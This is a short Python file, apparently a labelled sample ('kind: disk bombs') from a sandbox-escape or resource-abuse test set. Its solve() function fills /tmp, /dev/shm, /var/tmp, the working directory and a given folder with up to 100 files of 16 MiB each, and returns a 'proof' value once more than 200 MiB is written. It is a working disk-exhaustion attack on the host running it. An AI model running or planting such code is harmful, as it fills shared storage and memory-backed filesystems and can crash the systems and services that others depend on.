# kind: disk bombs
# through: host files
# form: calls
import os

def solve(facts, n):
    written = 0
    for folder in ("/tmp", ".", "/dev/shm", "/var/tmp", facts["folder"]):
        try:
            for i in range(100):
                with open(f"{folder}/bomb{i}", "wb") as file:
                    for _ in range(16):
                        written += file.write(b"x" * (1 << 20))
        except OSError:
            pass
    return facts["proof"] if written > 200 << 20 else True
